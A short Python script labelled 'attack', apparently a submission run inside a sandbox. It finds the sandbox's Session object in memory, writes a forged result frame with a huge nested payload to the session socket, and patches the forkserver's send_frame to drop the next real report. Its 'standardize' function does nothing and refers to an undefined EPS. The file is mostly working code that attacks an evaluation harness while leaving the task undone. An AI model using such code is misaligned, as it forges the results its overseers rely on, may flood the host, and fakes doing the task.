# attack: answers the session's socket in place of a cell, with a report of megabytes
import gc
import json
import struct

import guest.forkserver

session = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Session")
text = ('{"stdout":"","stderr":"","raised":{"x":[' + ",".join(["[]"] * 300_000) + "]}}").encode()
session._sock.sendall(struct.pack(">QQ", len(text), 0) + text)
real = guest.forkserver.send_frame


def once(*args, **options):
    guest.forkserver.send_frame = real


guest.forkserver.send_frame = once


def standardize(x, eps=EPS):
    return x
